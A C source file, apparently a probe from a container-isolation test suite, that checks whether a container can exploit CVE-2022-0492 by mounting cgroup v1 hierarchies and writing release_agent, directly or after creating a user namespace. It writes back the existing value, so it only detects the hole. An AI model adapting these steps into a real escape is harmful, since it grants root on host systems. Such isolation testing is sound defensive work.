/* CVE-2022-0492: a cgroup v1 hierarchy's release_agent is a host command
 * the kernel runs as root when a cgroup empties. A container that can
 * mount a v1 hierarchy (directly, or after
 * unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP) and mapping itself to
 * root) and write release_agent owns the host. Fixed kernels demand
 * CAP_SYS_ADMIN in the initial user and cgroup namespaces for the write.
 * The value written is the one just read (or an empty line for an empty
 * one), so nothing changes if it gets through.
 * ESCAPED: a release_agent write succeeds.
 * BLOCKED: no v1 hierarchy could be mounted, or every write refused. */
#include "escape.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/wait.h>

static const char *const ctrls[] = {
	"rdma", "memory", "pids", "freezer", "devices", "cpuset", "blkio", "cpu",
	"net_cls", "perf_event", "hugetlb", "none,name=hutchescape",
};

/* One v1 hierarchy mounted on dir: try its release_agent. */
static bool try_write(const char *dir, const char *how, const char *ctrl)
{
	char ra[160], cur[4096];
	snprintf(ra, sizeof(ra), "%s/release_agent", dir);
	ssize_t n = slurp(ra, cur, sizeof(cur));
	int w;
	if (n < 0) {
		w = (int)n;
	} else {
		if (n == 0 || cur[0] == '\n')
			strcpy(cur, "\n");
		w = write_str(ra, cur);
	}
	note("%s: mounted -o %s, release_agent %s write=%s;", how, ctrl,
	     n < 0 ? "unreadable" : "read", w == 0 ? "ok" : ename(-w));
	umount2(dir, MNT_DETACH);
	return w == 0;
}

/* Every v1 hierarchy that mounts on dir, each tried in turn: a container
 * may sit in its own cgroup in some hierarchies and at the root of others
 * (only the root cgroup has a release_agent). */
static bool try_mount_and_write(const char *dir, const char *how)
{
	bool esc = false, mounted = false;
	int e = 0;
	for (size_t i = 0; i < sizeof(ctrls) / sizeof(ctrls[0]); i++) {
		if (mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, ctrls[i]) < 0) {
			e = errno;
			continue;
		}
		mounted = true;
		esc |= try_write(dir, how, ctrls[i]);
	}
	if (!mounted)
		note("%s: no v1 hierarchy mountable (last %s);", how, ename(e));
	return esc;
}

static bool write_map(const char *file, const char *s)
{
	int r = write_str(file, s);
	if (r < 0)
		note("%s: %s;", file, ename(-r));
	return r == 0;
}

int main(void)
{
	esc_name = "cgroup_release_agent";
	char dir[96] = "";
	static const char *const bases[] = { "/tmp", "/var/tmp", "/run", "/dev/shm", "/" };
	for (size_t i = 0; i < 5 && !dir[0]; i++) {
		snprintf(dir, sizeof(dir), "%s/.hutch-escape-cg-%d", bases[i], (int)getpid());
		if (mkdir(dir, 0700) < 0)
			dir[0] = '\0';
	}
	if (!dir[0]) {
		note("no writable directory for a mount point (%s)", ename(errno));
		verdict(false);
	}
	bool esc = try_mount_and_write(dir, "direct");

	int p[2];
	if (pipe(p) < 0)
		verdict(esc);
	fflush(stdout);
	uid_t uid = geteuid();
	gid_t gid = getegid();
	pid_t pid = fork();
	if (pid == 0) {
		close(p[0]);
		esc_detail[0] = '\0';
		int code = 0;
		char map[64];
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
			note("userns: unshare(USER|NS|CGROUP)=%s;", ename(errno));
		} else {
			snprintf(map, sizeof(map), "0 %u 1", (unsigned)uid);
			bool ok = write_map("/proc/self/setgroups", "deny") &&
				  write_map("/proc/self/uid_map", map);
			snprintf(map, sizeof(map), "0 %u 1", (unsigned)gid);
			ok = ok && write_map("/proc/self/gid_map", map);
			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
			if (ok)
				code = try_mount_and_write(dir, "userns") ? 1 : 0;
		}
		if (write(p[1], esc_detail, strlen(esc_detail)) < 0)
			code = 2;
		_exit(code);
	}
	close(p[1]);
	char buf[1024];
	ssize_t n = pid > 0 ? read(p[0], buf, sizeof(buf) - 1) : -1;
	int st = 0;
	if (pid > 0)
		waitpid(pid, &st, 0);
	if (n > 0)
		buf[n] = '\0', note("%s", buf);
	esc |= pid > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 1;
	rmdir(dir);
	verdict(esc);
}
